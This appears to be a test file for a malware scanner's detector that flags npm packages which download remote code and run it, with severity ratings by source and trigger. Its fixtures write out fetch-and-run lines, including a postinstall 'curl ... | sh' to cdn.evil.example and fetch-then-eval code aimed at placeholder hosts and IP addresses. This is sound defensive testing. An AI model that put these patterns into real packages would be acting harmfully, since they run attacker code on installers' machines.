import { describe, expect, it } from 'vitest'
import type { Trigger } from '../core/types.ts'
import { findingsIn, packageOf, samplesOf, verdictOf } from '../../test/samples.ts'
import { weigh } from '../core/weigh.ts'
import { downloadsAndRuns } from './downloads-and-runs.ts'

const sample = (kind: 'bad' | 'benign', name: string): ReturnType<typeof packageOf> => {
  const found = samplesOf('downloads-and-runs', kind).find(({ file }) => file === `${name}.json`)
  if (!found) throw new Error(`no sample ${name}`)
  return packageOf(found.sample)
}

const install = (code: string, more: object = {}): string | undefined => findingsIn(packageOf({
  says: '', ecosystem: 'npm', files: { 'package.json': JSON.stringify({ scripts: { install: 'node i.js' }, ...more }), 'i.js': code },
}), downloadsAndRuns)[0]?.severity

const reached = (kind: Trigger['kind'], code: string): string | undefined => findingsIn(packageOf({
  says: '', ecosystem: 'npm', files: { 'package.json': '{}', 'i.js': code }, triggers: [{ kind, name: 'i', file: 'i.js' }],
}), downloadsAndRuns)[0]?.severity

const starts = (url: string, args = '[]'): string =>
  `const fs = require('fs'); fetch('${url}').then((r) => { fs.writeFileSync('bin/t', r); require('child_process').spawnSync('bin/t', ${args}) })`
const evaluates = (url: string): string => `fetch('${url}').then((r) => r.text()).then((t) => eval(t))`

describe('downloads-and-runs', () => {
  it.each([
    ['backend-hook', 'critical'], ['broken-syntax', 'critical'], ['command-pipes-hostile', 'high'], ['contract', 'critical'], ['curl-pipe-shell', 'critical'], ['data-address', 'critical'], ['searched-archive', 'critical'], ['worker', 'critical'], ['exec-curl', 'critical'],
    ['go-import-run', 'critical'], ['go-init', 'critical'], ['hidden-address', 'critical'], ['implicit-gyp', 'critical'], ['import-of-file', 'critical'],
    ['import-fetch-eval', 'critical'], ['import-requests-exec', 'critical'], ['import-saved-program', 'critical'], ['node-fetch-eval', 'critical'],
    ['powershell', 'critical'], ['process-substitution', 'critical'], ['pth', 'critical'], ['python2', 'critical'], ['save-then-run', 'critical'],
    ['substitution', 'critical'], ['urlopen-exec', 'critical'], ['urlretrieve-run', 'critical'], ['write-then-spawn', 'critical'],
  ] as const)('weighs %s as %s', (name, severity) => {
    expect(findingsIn(sample('bad', name), downloadsAndRuns)[0]).toMatchObject({ behaviour: 'fetch-and-run', severity })
    if (severity === 'critical') expect(verdictOf(sample('bad', name)).level).toBe('malicious')
  })

  it.each(samplesOf('downloads-and-runs', 'benign').map(({ file }) => file.replace('.json', '')))('holds nothing against %s', (name) => {
    const alone = { detector: downloadsAndRuns.id, version: downloadsAndRuns.version, status: 'ok', findings: findingsIn(sample('benign', name), downloadsAndRuns) } as const
    expect(weigh('sha256:00', [alone], [], '').level).toBe('clean')
  })

  it.each([
    ['a stranger', starts('https://cdn.other.example/t'), {}, 'critical'],
    ['a stranger, asked for its version', starts('https://cdn.other.example/t', `['--version']`), {}, 'high'],
    ['an address', starts('http://203.0.113.5/t', `['--version']`), {}, 'critical'],
    ['the declared repository', starts('https://github.com/me/tool/releases/download/t'), { repository: 'me/tool' }, 'low'],
    ['a release of another owner', starts('https://github.com/you/tool/releases/download/v1/t'), { repository: 'me/tool' }, 'high'],
    ['another owner of the same host', starts('https://github.com/you/tool/raw/main/t'), { repository: 'me/tool' }, 'critical'],
    ['the declared home without https', starts('http://tool.example/t'), { homepage: 'https://tool.example/' }, 'critical'],
    ['the registry', starts('https://registry.example/t'), {}, 'low'],
    ['a place the code hides', starts(`' + process.env.WHERE + '`), {}, 'high'],
  ])('weighs a program from %s', (_from, code, more, expected) => expect(install(code, more)).toBe(expected))

  it.each([
    ['install-hook', 'critical', 'critical'], ['import', 'critical', 'critical'], ['command', 'medium', 'high'], ['test', 'medium', 'high'], ['file', 'low', 'high'],
  ] as const)('weighs what a trigger of kind %s runs by who has to ask', (kind, foreign, hostile) => {
    expect(reached(kind, evaluates('https://cdn.other.example/t'))).toBe(foreign)
    expect(reached(kind, evaluates('http://203.0.113.5/t'))).toBe(hostile)
  })

  it('does not take for its own code what its repository holds at that moment', () => {
    const imported = (url: string): string | undefined => findingsIn(packageOf({
      says: '', ecosystem: 'npm', files: { 'package.json': '{"repository":"me/tool"}', 'i.js': evaluates(url) }, triggers: [{ kind: 'import', name: 'i', file: 'i.js' }],
    }), downloadsAndRuns)[0]?.severity
    expect(imported('https://raw.githubusercontent.com/me/tool/main/x.js')).toBe('critical')
    expect(imported('https://gist.githubusercontent.com/me/1/raw/x.js')).toBe('critical')
    expect(imported('https://github.com/me/tool/releases/download/1/x.js')).toBe('low')
  })

  it('says what it saw, in order', () => {
    const [finding] = findingsIn(packageOf({ says: '', ecosystem: 'npm', files: {
      'package.json': '{\n  "scripts": {\n    "postinstall": "curl -s https://cdn.evil.example/x | sh"\n  }\n}' } }), downloadsAndRuns)
    expect(finding?.title).toBe('the postinstall script fetches from cdn.evil.example and runs it')
    expect(finding?.evidence.map(({ file, lines, role }) => [file, lines[0], role])).toEqual([['package.json', 3, 'source'], ['package.json', 3, 'sink']])
  })
})
